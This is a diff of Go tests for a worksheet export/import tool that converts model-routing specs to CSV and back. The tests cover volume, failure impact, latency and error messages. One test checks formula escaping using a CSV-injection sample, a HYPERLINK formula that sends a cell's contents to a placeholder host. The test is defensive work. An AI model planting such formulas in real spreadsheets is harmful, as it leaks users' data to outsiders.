@@ -174,6 +174,14 @@ func TestSchemaFileElsewhere(t *testing.T) {
 	if _, err := estimate.Run(context.Background(), s, estimateOpts); err != nil {
 		t.Errorf("imported spec does not estimate: %v", err)
 	}
+	// The lost schema changes the estimate, so the import says so as it happens.
+	var warnings []string
+	if _, err := Import(bytes.NewReader(sheet), ImportOptions{File: "sheet.csv", Dir: dir, Warn: func(m string) { warnings = append(warnings, m) }}); err != nil {
+		t.Fatal(err)
+	}
+	if want := "json_schema files not found relative to where this spec is saved, in intent (schemas/intent.json)"; !strings.Contains(strings.Join(warnings, "\n"), want) {
+		t.Errorf("warnings %q lack %q", warnings, want)
+	}
 }
 
 // TestExportGolden pins the worksheet of the fixture spec, and TestImportGolden the spec
@@ -281,7 +289,8 @@ func TestSeedColumnsOnly(t *testing.T) {
 		"# Imported from the routing worksheet hand.csv.",
 		"# placeholder: the worksheet gives no pass rate for small in this category; this is its estimated pass rate",
 		"# placeholder latency: the estimated latency of category summarize (row 3), where large is the primary model of a static route; measure it\n    latency: {p50: 2.5s, p95: 6s}",
-		"# placeholder latency: the worksheet gives none for small; this is Clearbar's default assumption",
+		"# placeholder latency: the estimated latency of category classify (row 2), where small is the first model of a cascade route, so it includes escalations to later models; measure it\n    latency: {p50: 600ms, p95: 1.8s}",
+		"# placeholder: the worksheet gives no pass rate for large in this category (the row's is its primary model's); 0 stands for unknown",
 		"# not rebuilt, add back as validators: none of 12 restricted phrases",
 		"# replace with the validators described: judge large scores ≥ 0.80\n      validate: [{json_schema: request}]",
 		"# validation rule, not rebuilt as validators (add them to validate: ...): judge large scores ≥ 0.80",
@@ -388,7 +397,7 @@ func TestImportErrors(t *testing.T) {
 			`sheet.csv row 2, "validator false alarm": empty while "validator detect" is set`,
 			"a validator strength is a pair"},
 		{"latency of a model not in the row", withExtra("model latency", "small: 800ms/2s; mini: 1s/2s", ""), ImportOptions{},
-			`sheet.csv row 2, "model latency": names "mini", which this row does not route to`,
+			`sheet.csv row 2, "model latency": names "mini", which this row does not name: list the latency of the models in "primary model", "fallback model", "cascade failover", "other pass rates"`,
 			"latency cells describe the row's models"},
 		{"latency form unreadable", withExtra("model latency", "small: quick", ""), ImportOptions{},
 			`sheet.csv row 2, "model latency": small: "quick" is not a latency: write p50/p95 like 800ms/2s`,
@@ -414,6 +423,18 @@ func TestImportErrors(t *testing.T) {
 		{"retry policy unreadable", withExtra("provider retries", "three times", ""), ImportOptions{},
 			`sheet.csv row 2, "provider retries": "three times" is not a retry policy: write attempts N, backoff D`,
 			"retries are checked like the spec's"},
+		{"failure impact unreadable", withExtra("failure impact", "a lot", ""), ImportOptions{},
+			`sheet.csv row 2, "failure impact": "a lot" is not a failure impact: write what a bad answer costs in dollars, like bad answer 0.5`,
+			"failure impact drives the risk figures, so it is checked"},
+		{"failure impact given twice", withExtra("failure impact", `"bad answer 1, bad answer 2"`, ""), ImportOptions{},
+			`sheet.csv row 2, "failure impact": "bad answer 1, bad answer 2" is not a failure impact`,
+			"one amount per kind of failure"},
+		{"volume unreadable", withExtra("volume", "lots", ""), ImportOptions{},
+			`sheet.csv row 2, "volume": "lots" is not a volume: write the spec's requests per month or per day, like 3000000 per month`,
+			"the volume drives the monthly figures, so it is checked"},
+		{"volume differs between rows", withExtra("volume", "3000000 per month", "40000 per day"), ImportOptions{},
+			`sheet.csv row 3, "volume": gives the volume 40000 per day, but row 2 gives 3000000 per month: the volume is the spec's, one for all categories`,
+			"a spec has one volume"},
 		{"unknown provider type", baseSheet, ImportOptions{Provider: "acme"},
 			`worksheet: unknown provider type "acme"`,
 			"provider types are the spec's"},
@@ -661,6 +682,8 @@ categories:
 			"model a: price overrides are not in a worksheet", "the sheet prices models from the catalogue"},
 		{"model fallback", "route: {model: a}", "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}, fallback: [b]}",
 			"model a: model fallbacks are not in a worksheet", "only category fallbacks are"},
+		{"context window", "route: {model: a}", "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}, context_window: 4000}",
+			"model a: the context window override is not in a worksheet", "the estimate leaves requests longer than the window out"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -745,5 +768,98 @@ categories:
 		if got := fmt.Sprint(refNames(sc.Models), refNames(sc.Escalate), sc.Heuristic.Tiers); got != fmt.Sprint([]string{"a", "b", "c"}, refNames(s.Category("q").Route.Score.Escalate), []float64{0.3, 0.6}) {
 			t.Errorf("%q: imported score route %s:\n%s", tc.escalate, got, y)
 		}
+	}
+}
+
+// TestFormulaCellsEscaped: text from a spec that a spreadsheet would run as a formula is
+// exported with a leading single quote (OWASP's advice for CSV files), and imported back as
+// it was, quotes of its own included.
+func TestFormulaCellsEscaped(t *testing.T) {
+	s := load(t, "testdata/fixture.yaml")
+	for _, why := range []string{
+		`=HYPERLINK("https://example.invalid/?leak="&A1,"Click")`, "+1 for the small model", "-2 points of quality",
+		"@SUM(A1:A9)", "\tindented", "'quoted already", "'=half escaped", "''", "plain text",
+	} {
+		s.Categories[0].Why = why
+		sheet := export(t, s)
+		cell := readCSV(t, sheet)[1][slices.Index(Columns, colWhy)]
+		if strings.ContainsRune("=+-@\t\r'", rune(why[0])) {
+			if cell != "'"+why {
+				t.Errorf("why %q exported as %q, want it escaped with a leading single quote", why, cell)
+			}
+		} else if cell != why {
+			t.Errorf("why %q exported as %q, want it as written", why, cell)
+		}
+		_, back := reimport(t, sheet, "testdata/imported.yaml")
+		if got := back.Categories[0].Why; got != why {
+			t.Errorf("why %q came back as %q", why, got)
+		}
+	}
+}
+
+// TestFailureImpactAndVolume: a worksheet carries each category's failure impact and the
+// spec's volume, per day as per month, so that risk and monthly figures survive the round
+// trip, and a hand-written sheet may word them freely.
+func TestFailureImpactAndVolume(t *testing.T) {
+	s := load(t, "../examples/rag-assistant.yaml")
+	rows, err := Rows(s, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rows[0].Volume != "40000 per day" {
+		t.Errorf("volume cell %q, want 40000 per day (the spec's per_day)", rows[0].Volume)
+	}
+	_, back := reimport(t, export(t, s), "../examples/imported.yaml")
+	if got, want := formatVolume(back.Volume), formatVolume(s.Volume); got != want {
+		t.Errorf("volume %q after the round trip, want %q", got, want)
+	}
+	for i, c := range s.Categories {
+		if got, want := formatImpact(back.Categories[i].FailureImpact), formatImpact(c.FailureImpact); got != want {
+			t.Errorf("%s: failure impact %q after the round trip, want %q", c.Name, got, want)
+		}
+	}
+
+	lines := strings.Split(strings.TrimSpace(baseSheet), "\n")
+	sheet := lines[0] + ",failure impact,volume\n" + lines[1] + ",$0.50,3M/month\n" + lines[2] + ",\"bad_answer: 25, failed_request: 5\",\n"
+	y, err := Import(strings.NewReader(sheet), ImportOptions{File: "hand.csv"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"volume: {per_month: 3000000}\n", "failure_impact: {bad_answer: 0.5}\n", "failure_impact: {bad_answer: 25, failed_request: 5}\n"} {
+		if !bytes.Contains(y, []byte(want)) {
+			t.Errorf("imported spec lacks %q:\n%s", want, y)
+		}
+	}
+	if bytes.Contains(y, []byte("risk figures are zero")) || bytes.Contains(y, []byte("Traffic volume is not in the worksheet")) {
+		t.Errorf("the sheet gives failure impact and volume, yet the header says it does not:\n%s", y)
+	}
+}
+
+// TestOtherPassRateModelsDescribed: a model a row names only in "other pass rates" gets its
+// latency, availability and provider type in that row, so that the estimate's single-model
+// policies on it keep their figures after the round trip.
+func TestOtherPassRateModelsDescribed(t *testing.T) {
+	s := load(t, "../examples/batch-extraction.yaml")
+	rows, err := Rows(s, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := rows[0]
+	if !strings.Contains(r.OtherPassRates, "nano=gpt-4.1-nano: 0.93") {
+		t.Fatalf("nano is no longer an other pass rate of invoice (%q): pick another example", r.OtherPassRates)
+	}
+	for col, want := range map[string]string{
+		colModelLatency:      "nano: ttft 300ms/900ms + 150 tok/s",
+		colModelAvailability: "nano: 0.998",
+		colModelProvider:     "nano: openai",
+	} {
+		if got := r.Cells()[slices.Index(Columns, col)]; !strings.Contains(got, want) {
+			t.Errorf("%q = %q, want it to hold %q", col, got, want)
+		}
+	}
+	y, back := reimport(t, export(t, s), "../examples/imported.yaml")
+	nano := back.Model("nano")
+	if nano.Resolved.LatencyDefault || formatLatency(nano.Resolved.Latency) != "ttft 300ms/900ms + 150 tok/s" || nano.Resolved.Availability != 0.998 {
+		t.Errorf("nano after the round trip: latency %s, availability %v:\n%s", formatLatency(nano.Resolved.Latency), nano.Resolved.Availability, y)
 	}
 }
